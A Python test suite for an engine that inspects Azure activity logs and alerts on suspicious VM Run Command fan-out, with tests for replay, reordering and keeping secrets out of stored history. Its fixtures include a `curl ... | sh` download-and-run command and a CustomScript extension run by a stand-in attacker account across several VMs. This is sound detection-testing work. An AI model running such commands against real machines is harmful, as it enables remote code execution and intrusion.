"""The engine: records judged in event order, each once, against the history before them."""

from __future__ import annotations

import random
from datetime import timedelta

from inspector.activity import ActivityLimits
from tests.activity.builders import SUB, T0, event, routine, run_command, vm
from tests.activity.conftest import Ingest, types


def _fan_out(start, caller="mallory@evil.example", ip="198.51.100.7", vms=8):
    return [run_command(vm(f"vm-{i:02d}"), start + timedelta(minutes=i), caller=caller, ip=ip) for i in range(vms)]


async def test_routine_history_raises_nothing(run: Ingest):
    report = await run(routine(20))
    assert report.alerts == [] and report.errors == []
    assert report.judged == report.records


async def test_run_commands_fanned_out_by_a_new_caller_raise_one_usage_alert(run: Ingest):
    await run(routine(14))
    report = await run(_fan_out(T0 + timedelta(days=14, hours=2)))
    assert types(report.alerts) == ["VM_RunCommandSuspiciousUsage"]
    alert = report.alerts[0]
    assert alert.subscription_id == SUB and alert.resource_ids[0] == vm("vm-00")
    assert any("first Run Command by this caller" in e for e in alert.evidence)


async def test_no_unusual_alert_inside_the_learning_period(run: Ingest):
    await run(routine(3))
    report = await run(_fan_out(T0 + timedelta(days=3, hours=2)))
    assert report.alerts == []


async def test_a_record_sent_twice_counts_once(run: Ingest):
    batch = routine(2)
    first = await run(batch)
    again = await run(batch)
    assert again.duplicates + again.too_late == len(batch) and again.judged == 0
    assert first.judged == len(batch)


async def test_a_replay_raises_no_alert_twice(run: Ingest):
    batch = routine(14) + _fan_out(T0 + timedelta(days=14, hours=2))
    first = await run(batch)
    assert types(first.alerts) == ["VM_RunCommandSuspiciousUsage"]
    assert (await run(batch)).alerts == []


async def test_late_and_shuffled_records_give_the_same_alerts_as_ordered_ones(run: Ingest, store):
    history = routine(14)
    attack = _fan_out(T0 + timedelta(days=14, hours=2))
    ordered = await run(history + attack)
    shuffled = attack[:]
    random.Random(7).shuffle(shuffled)  # up to 8 minutes out of order, well inside the hour held
    late_history = routine(14)
    # a fresh subscription id so both runs start from nothing
    for record in late_history + shuffled:
        record["resourceId"] = record["resourceId"].replace(SUB, "11111111-0000-0000-0000-000000000000")
        record["subscriptionId"] = "11111111-0000-0000-0000-000000000000"
        record["eventDataId"] += "-b"
    replayed = await run(late_history + shuffled, as_given=True)
    assert types(replayed.alerts) == types(ordered.alerts)
    assert replayed.alerts[0].start_time == ordered.alerts[0].start_time


async def test_records_far_older_than_the_history_are_skipped_not_learned(run: Ingest):
    await run(routine(10))
    stale = event("Microsoft.Compute/virtualMachines/restart/action", vm("vm-01"), T0 + timedelta(days=1),
                  caller="someone@contoso.com")
    report = await run([stale])
    assert report.too_late == 1 and report.judged == 0


async def test_bad_records_are_errors_each_and_the_rest_is_ingested(run: Ingest):
    batch = routine(1)
    batch.insert(3, {"operationName": {"value": "x"}})
    batch.insert(5, "not an object")
    report = await run(batch, as_given=True)
    assert len(report.errors) == 2 and report.judged == len(batch) - 2
    assert "no resourceId" in report.errors[0].detail


async def test_history_is_kept_across_runs(run: Ingest):
    for day in range(14):
        await run(routine(1, start=T0 + timedelta(days=day)))
    report = await run(_fan_out(T0 + timedelta(days=14, hours=2)))
    assert types(report.alerts) == ["VM_RunCommandSuspiciousUsage"]


async def test_reorder_window_is_a_setting(run: Ingest):
    limits = ActivityLimits(inspect_bodies=False, reorder=timedelta(0))
    report = await run(routine(2), limits)
    assert report.judged == report.records


async def test_secrets_in_record_bodies_reach_neither_the_alerts_nor_the_history(run: Ingest, store):
    import json

    import sqlalchemy as sa

    from inspector.store.schema import metadata

    sas = "https://acct.blob.core.windows.net/c/x.sh?sv=2022-11-02&sr=b&sig=SASSECRETVALUE123%3D"
    await run(routine(14))
    start = T0 + timedelta(days=14, hours=2)
    fan_out = [run_command(vm(f"vm-{i:02d}"), start + timedelta(minutes=i), caller="mallory@evil.example",
                           ip="198.51.100.7", script=[f"curl -s '{sas}' | sh"]) for i in range(8)]
    cse = event("Microsoft.Compute/virtualMachines/extensions/write", f"{vm('vm-01')}/extensions/cse",
                start + timedelta(minutes=9), caller="mallory@evil.example", ip="198.51.100.7",
                body={"properties": {"publisher": "Microsoft.Azure.Extensions", "type": "CustomScript",
                                     "settings": {"fileUris": [sas]},
                                     "protectedSettings": {"commandToExecute": "sh x.sh PROTECTEDSECRET42"}}})
    report = await run([*fan_out, cse])
    assert report.alerts
    shown = json.dumps([a.model_dump(mode="json") for a in report.alerts])
    history = [t for t in metadata.sorted_tables if t.name.startswith("activity")]
    assert len(history) >= 5
    async with store.database.engine.connect() as conn:
        for table in history:
            shown += json.dumps([list(r) for r in (await conn.execute(sa.select(table))).all()], default=str)
    assert "mallory@evil.example" in shown  # the history was read, not an empty dump
    assert "SASSECRETVALUE123" not in shown and "PROTECTEDSECRET42" not in shown
